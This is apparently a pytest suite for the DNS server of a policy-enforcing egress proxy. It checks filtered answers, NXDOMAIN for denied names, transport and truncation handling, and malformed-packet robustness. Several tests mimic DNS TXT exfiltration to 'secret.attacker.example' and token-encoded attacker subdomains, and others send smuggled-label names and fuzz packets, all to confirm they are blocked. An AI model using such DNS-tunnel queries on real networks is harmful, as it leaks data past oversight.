"""The DNS server (--dns-listen): admitted names get A/AAAA answers filtered
by the address policy, everything else REFUSED or empty, and nothing but the
A/AAAA lookups of admitted names ever reaches the upstream (the harness DNS
server counts what it sees). Clients: dig and raw sockets."""

import os
import random
import re
import shutil
import socket
import struct
import subprocess
import time

import pytest

from harness.util import LOOPBACK_CIDRS, by, token

pytestmark = pytest.mark.skipif(shutil.which("dig") is None, reason="dig (dnsutils) not installed")

DNS = ("127.0.0.1:0",)
A, NS, CNAME, MX, TXT, AAAA, SRV, SVCB, HTTPS, ANY = 1, 2, 5, 15, 16, 28, 33, 64, 65, 255
NOERROR, FORMERR, SERVFAIL, NXDOMAIN, NOTIMP, REFUSED = 0, 1, 2, 3, 4, 5
MANY6 = "many6." + "a" * 50 + ".allowed.test"  # 16 AAAA in the harness zone
DOC6 = "2001:db8::/32"


# -- clients ---------------------------------------------------------------------

def dig(proxy, *args):
    """Run dig against the proxy's DNS server; returns (status, flags, answers)
    where answers are (name, ttl, type, data) tuples."""
    cmd = ["dig", "@127.0.0.1", "-p", str(proxy.dns_port), "+time=3", "+tries=1",
           "+noall", "+comments", "+answer"] + list(args)
    res = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
    out = res.stdout
    m = re.search(r"status: (\w+)", out)
    assert m, f"dig gave no status: {cmd}\n{out}\n{res.stderr}"
    flags = re.search(r"flags: ([a-z ]*);", out).group(1).split()
    answers = []
    in_answer = False
    for line in out.splitlines():
        if line.startswith(";; ANSWER SECTION"):
            in_answer = True
            continue
        if in_answer and line and not line.startswith(";"):
            name, ttl, _cls, rtype, data = line.split(None, 4)
            answers.append((name, int(ttl), rtype, data.strip()))
    return m.group(1), flags, answers


def query(name, qtype, qid=None, flags=0x0100, edns=None):
    """A DNS query message; edns: the advertised UDP size (None: no OPT).
    name: dotted text, or a list of labels (bytes) that may hold anything."""
    qid = random.randrange(65536) if qid is None else qid
    msg = struct.pack("!HHHHHH", qid, flags, 1, 0, 0, 1 if edns else 0)
    labels = name if isinstance(name, list) else [x.encode("latin-1") for x in name.split(".")]
    for label in labels:
        msg += bytes([len(label)]) + label
    msg += b"\0" + struct.pack("!HH", qtype, 1)
    if edns:
        msg += b"\0" + struct.pack("!HHIH", 41, edns, 0, 0)
    return msg


def udp(proxy, msg, timeout=3.0):
    """Send one datagram; the reply, or None when none came."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        s.sendto(msg, ("127.0.0.1", proxy.dns_port))
        try:
            return s.recv(65535)
        except socket.timeout:
            return None


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            return None
        buf += chunk
    return buf


def tcp(proxy, msg, timeout=5.0):
    with socket.create_connection(("127.0.0.1", proxy.dns_port), timeout=timeout) as s:
        s.sendall(struct.pack("!H", len(msg)) + msg)
        head = recv_exact(s, 2)
        assert head is not None, "the server closed the connection without answering"
        return recv_exact(s, struct.unpack("!H", head)[0])


class Reply:
    def __init__(self, msg):
        assert msg is not None and len(msg) >= 12, f"short reply {msg!r}"
        self.raw = msg
        (self.id, self.flags, self.qd, self.an, self.ns, self.ar) = struct.unpack("!6H", msg[:12])
        self.rcode = self.flags & 0xF
        self.tc = bool(self.flags & 0x0200)
        self.qr = bool(self.flags & 0x8000)

    def answers(self):
        """(type, ttl, rdata) of each answer record (owner assumed compressed or echoed)."""
        pos = 12
        for _ in range(self.qd):
            while self.raw[pos] != 0:
                pos += 1 + self.raw[pos]
            pos += 5
        out = []
        for _ in range(self.an):
            if self.raw[pos] & 0xC0 == 0xC0:
                pos += 2
            else:
                while self.raw[pos] != 0:
                    pos += 1 + self.raw[pos]
                pos += 1
            rtype, _cls, ttl, rdlen = struct.unpack("!HHIH", self.raw[pos:pos + 10])
            pos += 10
            out.append((rtype, ttl, self.raw[pos:pos + rdlen]))
            pos += rdlen
        return out


def dns_records(proxy, **fields):
    return [r for r in proxy.log.records() if r.get("event") == "dns" and by(**fields)(r)]


def check_record(rec, qname, qtype, decision, reason, answers, would_deny=False):
    """Field by field: exactly the keys a dns record has."""
    assert rec["event"] == "dns"
    assert re.fullmatch(r"127\.0\.0\.1:\d+", rec["client"]), rec
    assert rec["host"] == rec["qname"] == qname, rec  # qname: the old key, kept
    assert isinstance(rec["conn"], int) and rec["conn"] > 0, rec
    assert re.fullmatch(r"[0-9a-f]{16}", rec["run"]), rec
    assert rec["qtype"] == qtype, rec
    assert rec["decision"] == decision, rec
    assert rec["reason"] == reason, rec
    assert rec["answers"] == answers, rec
    assert isinstance(rec["duration_ms"], int) and 0 <= rec["duration_ms"] < 10000, rec
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", rec["ts"]), rec
    if would_deny:
        assert rec["would_deny"] is True, rec
    expected = {"ts", "run", "event", "conn", "client", "host", "decision", "reason",
                "duration_ms", "qname", "qtype", "answers"} | ({"would_deny"} if would_deny else set())
    assert set(rec) == expected, rec


# -- admitted names --------------------------------------------------------------

def test_allowed_a_and_aaaa(start_proxy, dns):
    proxy = start_proxy(allow="allowed.test,dual.test", dns_listen=DNS)
    status, flags, answers = dig(proxy, "allowed.test", "A")
    assert status == "NOERROR" and "qr" in flags
    assert [(n, t, d) for n, _, t, d in answers] == [("allowed.test.", "A", "127.0.0.1")]
    assert 0 < answers[0][1] <= 30  # the harness says 60: capped

    status, _, answers = dig(proxy, "dual.test", "AAAA")
    assert status == "NOERROR"
    assert [(t, d) for _, _, t, d in answers] == [("AAAA", "::1")]
    # AAAA of a name with only an IPv4 address: NODATA.
    status, _, answers = dig(proxy, "sub.allowed.test", "AAAA")
    assert status == "NOERROR" and answers == []

    rec = proxy.log.wait_one(by(event="dns", qname="allowed.test"))
    check_record(rec, "allowed.test", "A", "allow", "allowed", 1)
    rec = proxy.log.wait_one(by(event="dns", qname="dual.test"))
    check_record(rec, "dual.test", "AAAA", "allow", "allowed", 1)
    rec = proxy.log.wait_one(by(event="dns", qname="sub.allowed.test"))
    check_record(rec, "sub.allowed.test", "AAAA", "allow", "allowed", 0)


def test_answer_keeps_the_question_case(start_proxy):
    proxy = start_proxy(dns_listen=DNS)
    msg = query("WwW.AlLoWeD.tEsT", A, qid=0x4242)
    r = Reply(udp(proxy, msg))
    assert r.id == 0x4242 and r.qr and r.rcode == NOERROR and r.an == 1
    assert r.raw[12:12 + len(msg) - 12] == msg[12:]  # question echoed byte for byte
    assert r.answers()[0][2] == socket.inet_aton("127.0.0.1")
    rec = proxy.log.wait_one(by(event="dns"))
    assert rec["qname"] == "www.allowed.test"


def test_other_types_of_allowed_name_are_empty_and_not_forwarded(start_proxy, dns):
    proxy = start_proxy(dns_listen=DNS)
    name = f"t{token()}.allowed.test"
    for qtype in ("TXT", "MX", "HTTPS", "SVCB", "ANY", "NS", "SRV", "CNAME", "TYPE999"):
        status, _, answers = dig(proxy, name, qtype)
        assert (status, answers) == ("NOERROR", []), qtype
    assert dns.count(name) == 0
    before = dns.count("allowed.test")
    status, _, _ = dig(proxy, "allowed.test", "TXT")
    assert status == "NOERROR"
    assert dns.count("allowed.test") == before
    assert dns.count("allowed.test", TXT) == 0  # not in this session, ever
    recs = proxy.log.wait(by(event="dns", qname=name), count=9)
    assert sorted(r["qtype"] for r in recs) == sorted(
        ["TXT", "MX", "HTTPS", "SVCB", "ANY", "NS", "SRV", "CNAME", "TYPE999"])
    check_record(recs[0], name, "TXT", "allow", "allowed", 0)


def test_nonexistent_admitted_name_nxdomain(start_proxy, dns):
    proxy = start_proxy(allow="allowed.test,nope.test", dns_listen=DNS)
    before = dns.count("nope.test")
    status, _, answers = dig(proxy, "nope.test", "A")
    assert (status, answers) == ("NXDOMAIN", [])
    assert dns.count("nope.test") > before
    check_record(proxy.log.wait_one(by(event="dns")), "nope.test", "A", "allow", "allowed", 0)


def test_search_domain_or_host_alias_never_rewrites_an_admitted_name(start_proxy, dns, origins,
                                                                    tmp_path):
    """The name judged is the name resolved: LOCALDOMAIN (resolv.conf's
    `search`) with Kubernetes' ndots:5 must not turn gone.test into
    gone.test.corp.test (which exists), nor HOSTALIASES the single-label
    `shortname` into allowed.test; by the proxy or by its DNS server."""
    aliases = tmp_path / "hostaliases"
    aliases.write_text("shortname allowed.test\n")
    env = dict(os.environ, LOCALDOMAIN="corp.test", RES_OPTIONS="ndots:5",
               HOSTALIASES=str(aliases))
    proxy = start_proxy(allow="gone.test,shortname", dns_listen=DNS, env=env)
    before = dns.count("gone.test.corp.test"), dns.count("allowed.test")
    for name in ("gone.test", "shortname"):
        t = token()
        r = proxy.fetch(f"http://{name}:{origins.http.port}/hello?t={t}")
        assert r.status == 502, name
        assert origins.http.state.find(t) == [], name
        rec = proxy.log.wait_one(by(event="http", host=name))
        assert (rec["decision"], rec["reason"]) == ("deny", "dns_failure"), rec
        status, _, answers = dig(proxy, name, "A")
        assert (status, answers) == ("NXDOMAIN", []), name
        assert dns.count(name) > 0
    assert (dns.count("gone.test.corp.test"), dns.count("allowed.test")) == before
    assert dns.count("shortname.corp.test") == 0


def test_upstream_failure_servfail(start_proxy):
    proxy = start_proxy(allow="servfail.test", dns_listen=DNS)
    status, _, answers = dig(proxy, "servfail.test", "A")
    assert (status, answers) == ("SERVFAIL", [])
    check_record(proxy.log.wait_one(by(event="dns")), "servfail.test", "A", "deny",
                 "dns_failure", 0)


def test_private_address_without_cidrs_no_answer(start_proxy, dns):
    proxy = start_proxy(cidrs=None, dns_listen=DNS)
    status, _, answers = dig(proxy, "allowed.test", "A")
    assert (status, answers) == ("NOERROR", [])
    check_record(proxy.log.wait_one(by(event="dns")), "allowed.test", "A", "deny",
                 "private_destination", 0)


def test_partly_private_answers_only_admitted(start_proxy):
    proxy = start_proxy(allow="partial.test", cidrs="127.0.0.1", dns_listen=DNS)
    _, _, answers = dig(proxy, "partial.test", "A")
    assert [d for _, _, _, d in answers] == ["127.0.0.1"]  # 127.0.0.2 filtered out


# -- denied names ----------------------------------------------------------------

def test_denied_name_blocked_and_not_forwarded(start_proxy, dns):
    """NXDOMAIN (getaddrinfo fails at once), not REFUSED (which glibc turns
    into a "temporary failure" that npm and pip retry), with an Extended DNS
    Error "Blocked" naming awf's policy."""
    proxy = start_proxy(dns_listen=DNS)
    before = dns.count("notallowed.test")
    for qtype in ("A", "AAAA", "HTTPS"):
        status, _, answers = dig(proxy, "notallowed.test", qtype)
        assert (status, answers) == ("NXDOMAIN", []), qtype
    out = subprocess.run(["dig", "@127.0.0.1", "-p", str(proxy.dns_port), "+time=3",
                          "+tries=1", "notallowed.test"], capture_output=True, text=True,
                         timeout=30).stdout
    assert "EDE: 15 (Blocked): (awf: denied by policy (not_allowed))" in out, out
    assert dns.count("notallowed.test") == before
    recs = proxy.log.wait(by(event="dns", qname="notallowed.test"), count=3)
    check_record(recs[0], "notallowed.test", "A", "deny", "not_allowed", 0)


def test_txt_exfiltration_refused_and_not_forwarded(start_proxy, dns):
    proxy = start_proxy(dns_listen=DNS)
    before = dns.total()
    status, _, answers = dig(proxy, "TXT", "secret.attacker.example")
    assert (status, answers) == ("NXDOMAIN", [])
    secret = f"{token()}.{token()}.attacker.example"
    status, _, _ = dig(proxy, secret, "TXT")
    assert status == "NXDOMAIN"
    assert dns.count("secret.attacker.example") == 0 and dns.count(secret) == 0
    assert dns.total() == before  # nothing at all went upstream
    rec = proxy.log.wait_one(by(event="dns", qname="secret.attacker.example"))
    check_record(rec, "secret.attacker.example", "TXT", "deny", "not_allowed", 0)


def test_blocked_name_refused(start_proxy, dns):
    proxy = start_proxy(block="bad.allowed.test", dns_listen=DNS)
    before = dns.total()
    status, _, _ = dig(proxy, "x.bad.allowed.test", "A")
    assert status == "NXDOMAIN"
    assert dns.total() == before
    check_record(proxy.log.wait_one(by(event="dns")), "x.bad.allowed.test", "A", "deny",
                 "blocked", 0)


def test_scheme_restricted_rules_admit(start_proxy):
    # A query does not say TLS or HTTP: a rule for either admits the name.
    proxy = start_proxy(allow="https://tlsonly.test,http://plainonly.test", dns_listen=DNS)
    for name in ("tlsonly.test", "plainonly.test"):
        status, _, answers = dig(proxy, name, "A")
        assert status == "NOERROR" and len(answers) == 1, name


def test_invalid_names_and_classes_refused(start_proxy, dns):
    proxy = start_proxy(dns_listen=DNS)
    r = Reply(udp(proxy, query("a b.allowed.test", A)))
    assert r.rcode == REFUSED
    chaos = query("version.bind", TXT)[:-2] + struct.pack("!H", 3)
    r = Reply(udp(proxy, chaos))
    assert r.rcode == REFUSED
    rec = proxy.log.wait_one(by(event="dns", qname=r"a\032b.allowed.test"))
    check_record(rec, r"a\032b.allowed.test", "A", "deny", "invalid_name", 0)
    rec = proxy.log.wait_one(by(event="dns", qname="version.bind"))
    assert rec["reason"] == "unsupported_class"
    assert dns.count("a b.allowed.test") == 0 and dns.count("version.bind") == 0


def test_dotted_label_not_logged_as_two_labels(start_proxy, dns):
    """A label holding a '.' (or bytes no host name has) is refused and logged
    RFC 1035 style, so "a.b" as one label never reads as the labels a, b."""
    proxy = start_proxy(dns_listen=DNS)
    assert Reply(udp(proxy, query([b"a.b", b"allowed", b"test"], A))).rcode == REFUSED
    assert Reply(udp(proxy, query([b"a\\b", b"\xff\x00x", b"test"], A))).rcode == REFUSED
    assert Reply(udp(proxy, query("a.b.allowed.test", A))).rcode == NOERROR
    rec = proxy.log.wait_one(by(event="dns", host=r"a\.b.allowed.test"))
    check_record(rec, r"a\.b.allowed.test", "A", "deny", "invalid_name", 0)
    rec = proxy.log.wait_one(by(event="dns", host=r"a\\b.\255\000x.test"))
    check_record(rec, r"a\\b.\255\000x.test", "A", "deny", "invalid_name", 0)
    rec = proxy.log.wait_one(by(event="dns", host="a.b.allowed.test"))
    assert rec["decision"] == "allow"
    assert dns.count("a.b.allowed.test") >= 1  # only the real four-label name went out


def test_audit_admits_and_flags(start_proxy, dns):
    proxy = start_proxy(allow="allowed.test", extra=["--audit"], dns_listen=DNS)
    status, _, answers = dig(proxy, "notallowed.test", "A")
    assert status == "NOERROR" and [d for _, _, _, d in answers] == ["127.0.0.1"]
    check_record(proxy.log.wait_one(by(event="dns", qname="notallowed.test")),
                 "notallowed.test", "A", "allow", "not_allowed", 1, would_deny=True)
    # Audit never forwards other types either.
    before = dns.total()
    status, _, answers = dig(proxy, "secret.attacker.example", "TXT")
    assert (status, answers) == ("NOERROR", [])
    assert dns.total() == before
    check_record(proxy.log.wait_one(by(event="dns", qname="secret.attacker.example")),
                 "secret.attacker.example", "TXT", "allow", "not_allowed", 0, would_deny=True)


# -- transports ------------------------------------------------------------------

def test_tcp_query(start_proxy):
    proxy = start_proxy(dns_listen=DNS)
    status, _, answers = dig(proxy, "+tcp", "allowed.test", "A")
    assert status == "NOERROR" and [d for _, _, _, d in answers] == ["127.0.0.1"]
    r = Reply(tcp(proxy, query("notallowed.test", A, qid=7)))
    assert (r.id, r.rcode) == (7, NXDOMAIN)
    check_record(proxy.log.wait_one(by(event="dns", qname="allowed.test")), "allowed.test",
                 "A", "allow", "allowed", 1)


def test_tcp_pipelined_queries(start_proxy):
    proxy = start_proxy(dns_listen=DNS)
    msgs = [query("allowed.test", A, qid=1), query("evil.test", A, qid=2),
            query("other.test", A, qid=3)]
    with socket.create_connection(("127.0.0.1", proxy.dns_port), timeout=5) as s:
        s.sendall(b"".join(struct.pack("!H", len(m)) + m for m in msgs))
        got = {}
        for _ in msgs:
            n = struct.unpack("!H", recv_exact(s, 2))[0]
            r = Reply(recv_exact(s, n))
            got[r.id] = r.rcode
    assert got == {1: NOERROR, 2: NXDOMAIN, 3: NOERROR}


def test_truncation_then_tcp(start_proxy, dns):
    proxy = start_proxy(cidrs=LOOPBACK_CIDRS + "," + DOC6, dns_listen=DNS)
    # Plain DNS over UDP: at most 512 bytes, so TC and fewer than 16 records.
    raw = udp(proxy, query(MANY6, AAAA))
    r = Reply(raw)
    assert len(raw) <= 512 and r.tc and r.rcode == NOERROR and r.an < 16
    # The same over TCP: all 16, no TC.
    r = Reply(tcp(proxy, query(MANY6, AAAA)))
    assert not r.tc and r.an == 16
    assert {socket.inet_ntop(socket.AF_INET6, d) for _, _, d in r.answers()} == {
        "2001:db8::%x" % i for i in range(1, 17)}
    # With EDNS (1232 bytes) it fits in one datagram.
    r = Reply(udp(proxy, query(MANY6, AAAA, edns=1232)))
    assert not r.tc and r.an == 16 and r.ar == 1
    # dig without EDNS sees TC and retries over TCP by itself.
    status, flags, answers = dig(proxy, "+noedns", MANY6, "AAAA")
    assert status == "NOERROR" and len(answers) == 16 and "tc" not in flags
    recs = proxy.log.wait(by(event="dns", qname=MANY6), count=4)
    assert sorted(r["answers"] for r in recs)[-3:] == [16, 16, 16]
    assert min(r["answers"] for r in recs) < 16  # the truncated UDP answer


# -- malformed input -------------------------------------------------------------

def test_malformed_packets(start_proxy, dns):
    proxy = start_proxy(dns_listen=DNS)
    before = dns.count("allowed.test")
    # No reply: shorter than a header, empty, a response (QR=1).
    assert udp(proxy, b"\x12\x34\x01", timeout=0.5) is None
    assert udp(proxy, b"", timeout=0.5) is None
    assert udp(proxy, query("allowed.test", A, flags=0x8100), timeout=0.5) is None
    # A readable header with a broken question: FORMERR, id kept.
    r = Reply(udp(proxy, struct.pack("!6H", 0xBEEF, 0x0100, 1, 0, 0, 0) + b"\x05abc"))
    assert (r.id, r.rcode, r.an) == (0xBEEF, FORMERR, 0)
    # Trailing garbage, two questions, a compression pointer: FORMERR.
    r = Reply(udp(proxy, query("allowed.test", A, qid=1) + b"\xff\xff"))
    assert r.rcode == FORMERR
    two = bytearray(query("allowed.test", A, qid=2))
    two[5] = 2
    assert Reply(udp(proxy, bytes(two))).rcode == FORMERR
    ptr = struct.pack("!6H", 3, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack("!HH", A, 1)
    assert Reply(udp(proxy, ptr)).rcode == FORMERR
    # Another opcode (NOTIFY): NOTIMP.
    assert Reply(udp(proxy, query("allowed.test", A, flags=4 << 11))).rcode == NOTIMP
    # Random garbage, then a normal query is still answered.
    rnd = random.Random(7)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _ in range(500):
            s.sendto(bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 80))),
                     ("127.0.0.1", proxy.dns_port))
    time.sleep(0.2)
    r = Reply(udp(proxy, query("allowed.test", A, qid=99)))
    assert (r.id, r.rcode, r.an) == (99, NOERROR, 1)
    assert proxy.running()
    recs = dns_records(proxy, reason="bad_request")
    assert len(recs) >= 6
    assert all(r["decision"] == "deny" for r in recs)
    assert dns.count("allowed.test") - before <= 2  # one lookup (A and AAAA), then the cache


def test_malformed_tcp(start_proxy):
    proxy = start_proxy(dns_listen=DNS)
    # A zero length prefix: the connection is closed.
    with socket.create_connection(("127.0.0.1", proxy.dns_port), timeout=5) as s:
        s.sendall(b"\0\0")
        assert s.recv(10) == b""
    # Garbage after a length prefix: FORMERR; a response: closed.
    with socket.create_connection(("127.0.0.1", proxy.dns_port), timeout=5) as s:
        junk = struct.pack("!6H", 5, 0x0100, 1, 0, 0, 0) + b"\x3fzz"
        s.sendall(struct.pack("!H", len(junk)) + junk)
        n = struct.unpack("!H", recv_exact(s, 2))[0]
        assert Reply(recv_exact(s, n)).rcode == FORMERR
        resp = query("allowed.test", A, flags=0x8100)
        s.sendall(struct.pack("!H", len(resp)) + resp)
        assert s.recv(10) == b""
    assert Reply(tcp(proxy, query("allowed.test", A))).an == 1


# -- the command line ------------------------------------------------------------

def test_dns_listen_alone_adds_no_proxy_listener(start_proxy):
    proxy = start_proxy(listen=(), dns_listen=DNS)
    assert dig(proxy, "allowed.test", "A")[0] == "NOERROR"
    assert "awf-proxy: listening on" not in proxy.stderr.text()


def test_two_dns_listeners(start_proxy):
    proxy = start_proxy(dns_listen=("127.0.0.1:0", "127.0.0.1:0"))
    assert len(proxy.dns_listeners) == 2
    for _, port in proxy.dns_listeners:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(3)
            s.sendto(query("allowed.test", A), ("127.0.0.1", port))
            assert Reply(s.recv(4096)).an == 1


def test_dns_listen_bad_value_exit_2(proxy_bin, dns):
    res = subprocess.run([proxy_bin, "--dns-listen", "localhost:53", "--dns-servers", dns.addr],
                         capture_output=True, text=True, timeout=10)
    assert res.returncode == 2, res.stderr
    assert "--dns-listen" in res.stderr and "localhost:53" in res.stderr


def test_dns_listen_port_in_use_exit_1(proxy_bin, dns):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
        res = subprocess.run([proxy_bin, "--dns-listen", f"127.0.0.1:{port}", "--dns-servers",
                              dns.addr], capture_output=True, text=True, timeout=10)
    assert res.returncode == 1, res.stderr
    assert f"--dns-listen 127.0.0.1:{port}" in res.stderr
    assert "Sanitizer" not in res.stderr and "runtime error" not in res.stderr


def test_help_lists_dns_listen(proxy_bin):
    res = subprocess.run([proxy_bin, "--help"], capture_output=True, text=True, timeout=10)
    assert "--dns-listen" in res.stdout
